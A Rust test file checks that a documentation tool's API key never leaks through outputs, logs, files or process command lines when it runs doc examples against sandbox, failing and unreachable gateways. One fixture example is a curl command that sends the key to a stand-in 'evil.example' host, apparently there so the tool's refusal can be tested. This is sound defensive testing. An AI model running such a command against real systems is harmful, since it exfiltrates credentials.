//! The API key is a secret everywhere: every command that takes a key, with both runners and every
//! report format, against a gateway that answers, one that fails (and echoes the request back,
//! key and all) and one that cannot be reached. The key is looked for, in all its encodings, in
//! stdout, stderr, the sandbox's log, every file written, and the command lines of all processes
//! while a request is held open. `--runner curl` sends one request for a URL with `[1-1000]`.

use crate::harness::SiteTest;
use base64::Engine;
use std::collections::hash_map::RandomState;
use std::hash::{BuildHasher, Hasher};
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{mpsc, Arc};
use std::time::{Duration, Instant};

const SPEC: &str = r#"openapi: 3.0.3
x-intark-context-path: /test
info: {title: Items, version: "1"}
components:
  securitySchemes:
    key: {type: apiKey, in: header, name: X-Gravitee-Api-Key}
security:
  - key: []
paths:
  /v1/items:
    get:
      operationId: listItems
      responses:
        "200":
          description: ok
          content:
            application/json:
              schema: {type: array, items: {type: string}}
              example: ["a"]
    post:
      operationId: addItem
      requestBody:
        content:
          application/json:
            schema: {type: object}
      responses:
        "201":
          description: made
          content:
            application/json:
              schema: {type: object}
              example: {}
  /v1/items/{id}:
    get:
      operationId: oneItem
      parameters:
        - {name: id, in: path, required: true, schema: {type: string}}
      responses:
        "200":
          description: ok
          content:
            application/json:
              schema: {type: string}
              example: "a"
"#;

/// Hand-written examples that carry the key in every place an example can: header, query,
/// basic auth, body, PowerShell hashtable, the host of a gateway that is not allowed.
const PAGE: &str = r#"---
title: Nøkler
---
```bash
curl "https://gw-uio.intark.uh-it.no/test/v1/items" -H "X-Gravitee-Api-Key: $INTARK_API_KEY"
```

```bash
curl "https://gw-uio.intark.uh-it.no/test/v1/items?api-key=$INTARK_API_KEY"
```

```bash expect=401
curl -u "doc:$INTARK_API_KEY" "https://gw-uio.intark.uh-it.no/test/v1/items"
```

```bash
curl "https://$INTARK_API_KEY.evil.example/x?k=$INTARK_API_KEY"
```

```bash
curl -X POST "https://gw-uio.intark.uh-it.no/test/v1/items" -H "X-Gravitee-Api-Key: $INTARK_API_KEY" -H "Content-Type: application/json" -d "{\"note\": \"$INTARK_API_KEY\"}"
```

```powershell
Invoke-RestMethod -Uri "https://gw-uio.intark.uh-it.no/test/v1/items" -Headers @{ "X-Gravitee-Api-Key" = $env:INTARK_API_KEY }
```

```bash
curl "https://gw-uio.intark.uh-it.no/test/v1/items/hold" -H "X-Gravitee-Api-Key: $INTARK_API_KEY"
```
"#;

/// A random key that reads differently lower-cased, upper-cased and percent-encoded (`'`).
fn random_key() -> String {
    let mut hasher = RandomState::new().build_hasher();
    hasher.write_u64(std::process::id().into());
    format!("SeKrEt-{:016x}'Zq", hasher.finish())
}

/// Every form the key could leak in.
fn forms(key: &str) -> Vec<String> {
    let b64 = base64::engine::general_purpose::STANDARD;
    let mut forms = vec![
        key.to_string(),
        key.to_lowercase(),
        key.to_uppercase(),
        percent_encoding::utf8_percent_encode(key, percent_encoding::NON_ALPHANUMERIC).to_string(),
        key.replace('\'', "%27"),
        key.to_lowercase().replace('\'', "%27"),
        b64.encode(key),
        b64.encode(format!("doc:{key}")),
        serde_json::to_string(key)
            .unwrap()
            .trim_matches('"')
            .to_string(),
        key.replace('\'', "&apos;"),
    ];
    // The run of base64 fixed by the key alone, at each alignment (as inside `doc:KEY`).
    for pad in ["", "a", "ab"] {
        let encoded = b64.encode(format!("{pad}{key}"));
        forms.push(encoded[4..encoded.len() - 4].to_string());
    }
    forms.sort();
    forms.dedup();
    forms
}

fn assert_no_key(key: &str, what: &str, text: &str) {
    for form in forms(key) {
        assert!(
            !text.contains(&form),
            "the key leaked as `{form}` in {what}:\n{text}"
        );
    }
}

/// A gateway that fails every request with 500 and echoes the request back in its body; counts
/// requests; holds a request for `/hold` open (until released) when armed.
struct EchoGateway {
    base: String,
    count: Arc<AtomicUsize>,
    armed: Arc<AtomicBool>,
    held: mpsc::Receiver<()>,
    release: Arc<AtomicBool>,
}

impl EchoGateway {
    fn start() -> EchoGateway {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let count = Arc::new(AtomicUsize::new(0));
        let armed = Arc::new(AtomicBool::new(false));
        let release = Arc::new(AtomicBool::new(false));
        let (tell, held) = mpsc::channel();
        let (c, a, r) = (Arc::clone(&count), Arc::clone(&armed), Arc::clone(&release));
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (c, a, r, tell) =
                    (Arc::clone(&c), Arc::clone(&a), Arc::clone(&r), tell.clone());
                std::thread::spawn(move || echo(stream, &c, &a, &r, &tell));
            }
        });
        EchoGateway {
            base,
            count,
            armed,
            held,
            release,
        }
    }
}

fn echo(
    mut stream: TcpStream,
    count: &AtomicUsize,
    armed: &AtomicBool,
    release: &AtomicBool,
    tell: &mpsc::Sender<()>,
) {
    let _ = stream.set_read_timeout(Some(Duration::from_secs(10)));
    let mut raw = Vec::new();
    let mut buf = [0u8; 4096];
    let head_end = loop {
        if let Some(at) = raw.windows(4).position(|w| w == b"\r\n\r\n") {
            break at + 4;
        }
        match stream.read(&mut buf) {
            Ok(0) | Err(_) => return,
            Ok(n) => raw.extend_from_slice(&buf[..n]),
        }
    };
    let head = String::from_utf8_lossy(&raw[..head_end]).to_string();
    let length: usize = head
        .lines()
        .find_map(|l| {
            l.split_once(':')
                .filter(|(n, _)| n.eq_ignore_ascii_case("content-length"))
                .and_then(|(_, v)| v.trim().parse().ok())
        })
        .unwrap_or(0);
    while raw.len() < head_end + length {
        match stream.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => raw.extend_from_slice(&buf[..n]),
        }
    }
    count.fetch_add(1, Ordering::SeqCst);
    if head.contains("/hold ") && armed.load(Ordering::SeqCst) {
        let _ = tell.send(());
        let deadline = Instant::now() + Duration::from_secs(20);
        while !release.load(Ordering::SeqCst) && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(10));
        }
    }
    let _ = write!(
        stream,
        "HTTP/1.1 500 Internal Server Error\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        raw.len()
    );
    let _ = stream.write_all(&raw);
}

/// The command line of every process on the machine that we may read.
fn all_command_lines() -> Vec<String> {
    std::fs::read_dir("/proc")
        .map(|dir| {
            dir.flatten()
                .filter(|e| {
                    e.file_name()
                        .to_string_lossy()
                        .bytes()
                        .all(|b| b.is_ascii_digit())
                })
                .filter_map(|e| std::fs::read(e.path().join("cmdline")).ok())
                .map(|raw| String::from_utf8_lossy(&raw).replace('\0', " "))
                .collect()
        })
        .unwrap_or_default()
}

fn intark(site: &SiteTest, args: &[&str], key: &str) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_intark-docs"));
    command
        .args(args)
        .args(["--api-key-env", "TEST_GATEWAY_KEY", "--root"])
        .arg(site.root())
        .env("TEST_GATEWAY_KEY", key)
        .env("NO_COLOR", "1");
    command
}

fn files_under(dir: &std::path::Path) -> Vec<(String, String)> {
    walkdir::WalkDir::new(dir)
        .into_iter()
        .flatten()
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            (
                e.path().display().to_string(),
                String::from_utf8_lossy(&std::fs::read(e.path()).unwrap_or_default()).into_owned(),
            )
        })
        .collect()
}

fn site_without_key() -> SiteTest {
    let site = SiteTest::new();
    site.file("openapi/items.yaml", SPEC)
        .file("content/index.md", PAGE);
    site
}

#[test]
fn the_key_is_found_nowhere_for_any_command_runner_format_or_gateway() {
    let key = random_key();
    // The sandbox that knows the key lives in its own folder, so the site under test holds none.
    let gateway_site = SiteTest::new();
    gateway_site
        .file("openapi/items.yaml", SPEC)
        .file("content/index.md", "---\ntitle: G\n---\nG.\n")
        .file(
            "intark.toml",
            format!("[sandbox]\nport = 0\n[[sandbox.keys]]\nkey = \"{key}\"\n"),
        );
    let mut sandbox = gateway_site.start(&["sandbox"]);
    let sandbox_line = sandbox.line();
    let sandbox_url = sandbox_line.split_whitespace().last().unwrap().to_string();
    let echo = EchoGateway::start();
    let closed = {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        format!("http://{}", listener.local_addr().unwrap())
    };
    let site = site_without_key();
    let mut outcomes_seen = std::collections::BTreeSet::new();
    for gateway in [&sandbox_url, &echo.base, &closed] {
        for runner in ["builtin", "curl"] {
            for format in ["human", "json", "github", "junit", "sarif"] {
                for command in [&["examples"][..], &["check", "--examples"][..]] {
                    let mut args = command.to_vec();
                    args.extend(["--gateway", gateway, "--runner", runner, "--format", format]);
                    let output = intark(&site, &args, &key).output().unwrap();
                    let what = format!("{args:?}");
                    let stdout = String::from_utf8_lossy(&output.stdout);
                    assert_no_key(&key, &format!("stdout of {what}"), &stdout);
                    assert_no_key(
                        &key,
                        &format!("stderr of {what}"),
                        &String::from_utf8_lossy(&output.stderr),
                    );
                    assert!(
                        matches!(output.status.code(), Some(0 | 1)),
                        "{what}: {stdout}"
                    );
                    if format == "json" && command[0] == "examples" {
                        let json: serde_json::Value = serde_json::from_str(&stdout).unwrap();
                        for s in json["snippets"].as_array().unwrap() {
                            outcomes_seen.insert(s["outcome"].as_str().unwrap().to_string());
                        }
                    }
                }
            }
        }
    }
    assert!(
        ["passed", "failed", "not-run"]
            .iter()
            .all(|o| outcomes_seen.contains(*o)),
        "the runs passed, failed and refused examples: {outcomes_seen:?}"
    );
    // A file written with the findings (a baseline) holds no key either.
    let output = intark(
        &site,
        &[
            "check",
            "--examples",
            "--gateway",
            &echo.base,
            "--baseline",
            "baseline.json",
        ],
        &key,
    )
    .output()
    .unwrap();
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let files = files_under(site.root());
    assert!(files.iter().any(|(p, _)| p.ends_with("baseline.json")));
    for (path, text) in files {
        assert_no_key(&key, &path, &text);
    }
    let log = sandbox.stop();
    assert!(
        log.contains("GET /test/v1/items"),
        "the sandbox was used: {log}"
    );
    assert_no_key(&key, "the sandbox's log", &log);
}

#[test]
fn no_process_has_the_key_on_its_command_line_while_a_request_is_open() {
    let key = random_key();
    let echo = EchoGateway::start();
    let site = site_without_key();
    for runner in ["curl", "builtin"] {
        echo.armed.store(true, Ordering::SeqCst);
        echo.release.store(false, Ordering::SeqCst);
        let mut child = intark(
            &site,
            &["examples", "--gateway", &echo.base, "--runner", runner],
            &key,
        )
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
        echo.held
            .recv_timeout(Duration::from_secs(30))
            .expect("the held request arrived");
        let lines = all_command_lines();
        echo.release.store(true, Ordering::SeqCst);
        echo.armed.store(false, Ordering::SeqCst);
        let _ = child.wait();
        for line in &lines {
            assert_no_key(&key, "a process's command line", line);
        }
        if runner == "curl" {
            assert!(
                lines
                    .iter()
                    .any(|l| l.starts_with("curl ") && l.contains("--config -")),
                "a curl process was seen while the request was held: {lines:#?}"
            );
        }
        assert!(
            lines.iter().any(|l| l.contains("TEST_GATEWAY_KEY")),
            "our own process was seen: {lines:#?}"
        );
    }
}

#[test]
fn a_url_with_a_range_is_one_request_with_the_curl_runner() {
    let key = random_key();
    let echo = EchoGateway::start();
    let site = SiteTest::new();
    site.file("openapi/items.yaml", SPEC).file(
        "content/index.md",
        "---\ntitle: R\n---\n```bash\ncurl -H \"X-Gravitee-Api-Key: $INTARK_API_KEY\" \"https://gw-uio.intark.uh-it.no/test/v1/items/[1-1000]\"\n```\n",
    );
    let before = echo.count.load(Ordering::SeqCst);
    let output = intark(
        &site,
        &[
            "examples",
            "--gateway",
            &echo.base,
            "--runner",
            "curl",
            "--format",
            "json",
        ],
        &key,
    )
    .output()
    .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let snippets = json["snippets"].as_array().unwrap();
    let reached = snippets
        .iter()
        .filter(|s| s["reason"].as_str().unwrap_or_default().contains("got 500"))
        .count();
    let sent = echo.count.load(Ordering::SeqCst) - before;
    assert!(
        snippets.iter().any(|s| s["origin"] == "handwritten"
            && s["reason"].as_str().unwrap_or_default().contains("got 500")),
        "the range example reached the gateway: {json:#}"
    );
    assert_eq!(
        sent, reached,
        "one request per example that reached the gateway, the range included: {json:#}"
    );
}

/// A gateway that answers 500 with `padding` characters and then the key, so that the excerpt of
/// the answer in a finding (200 characters) ends inside the key.
fn padded_gateway(key: &str, padding: usize) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let body = format!("{}{key}", "x".repeat(padding));
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
            let mut raw = Vec::new();
            let mut buf = [0u8; 4096];
            while !raw.windows(4).any(|w| w == b"\r\n\r\n") {
                match stream.read(&mut buf) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => raw.extend_from_slice(&buf[..n]),
                }
            }
            let _ = write!(
                stream,
                "HTTP/1.1 500 Internal Server Error\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    base
}

#[test]
fn a_key_cut_by_the_excerpt_of_an_answer_is_not_reported_in_part() {
    let key = random_key();
    // The first 12 characters of the key are the last of the 200-character excerpt.
    let gateway = padded_gateway(&key, 188);
    let site = site_without_key();
    for runner in ["builtin", "curl"] {
        let output = intark(
            &site,
            &[
                "examples",
                "--gateway",
                &gateway,
                "--runner",
                runner,
                "--format",
                "json",
            ],
            &key,
        )
        .output()
        .unwrap();
        let stdout = String::from_utf8_lossy(&output.stdout);
        assert!(stdout.contains("got 500"), "the gateway answered: {stdout}");
        let prefix = key[..12].to_lowercase();
        assert!(
            !stdout.to_lowercase().contains(&prefix),
            "the start of the key `{prefix}` leaked with the {runner} runner:\n{stdout}"
        );
    }
}
